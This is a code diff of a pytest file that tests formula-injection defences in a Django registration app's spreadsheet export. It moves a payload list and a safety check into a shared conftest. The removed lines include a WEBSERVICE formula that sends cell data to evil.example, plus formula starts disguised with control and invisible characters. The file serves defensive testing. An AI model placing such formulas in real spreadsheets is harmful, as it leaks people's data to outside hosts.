@@ -4,7 +4,6 @@ spreadsheet as a formula. Parsed back with csv and openpyxl."""
 
 import csv
 import io
-import unicodedata
 
 import openpyxl
 import pytest
@@ -12,6 +11,7 @@ import pytest
 from registration import questions
 from registration.exports import spreadsheet_text
 from registration.models import Registration, RegistrationExport
+from tests.conftest import PAYLOADS, assert_safe
 from tests.factories import QuestionFactory, RegistrationFactory
 from tests.registration.task_worker import run_tasks
 
@@ -19,41 +19,11 @@ pytestmark = pytest.mark.django_db
 
 CHANGELIST = "/admin/registration/registration/"
 EXPORTS = "/admin/registration/registrationexport/"
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-
-# (as typed, as exported): cleaned, then kept as text with a leading apostrophe.
-PAYLOADS = [
-    ('\x02=WEBSERVICE("http://evil.example/?"&A2)', '\'=WEBSERVICE("http://evil.example/?"&A2)'),
-    ("\x01=1+1", "'=1+1"),
-    ("\u200b=1", "'=1"),
-    ("\ufeff\u00ad=1", "'=1"),
-    ("\u202e=1", "'=1"),
-    ("\t=1", "'=1"),
-    ("\r\n=1", "'=1"),
-    (" =1", "'=1"),
-    ("\u00a0\u3000=1", "'=1"),
-    ("\uff1d1+1", "'\uff1d1+1"),  # a fullwidth equals sign
-    ("+1", "'+1"),
-    ("-1", "'-1"),
-    ("@SUM(1)", "'@SUM(1)"),
-    ("Zo\u00ebe\x0b\u200bO'Neil", "Zo\u00ebeO'Neil"),
-    ("Jose\u0301", "Jos\u00e9"),  # NFC
-]
-
-
-def starts_like_a_formula(text):
-    return unicodedata.normalize("NFKC", text)[:1] in FORMULA_STARTS
 
 
 @pytest.mark.parametrize(("typed", "exported"), PAYLOADS)
 def test_spreadsheet_text_cleans_then_neutralises(typed, exported):
     assert spreadsheet_text(typed) == exported
-
-
-def assert_safe(cells):
-    for cell in cells:
-        assert not starts_like_a_formula(cell), repr(cell)
-        assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in cell), repr(cell)
 
 
 @pytest.fixture
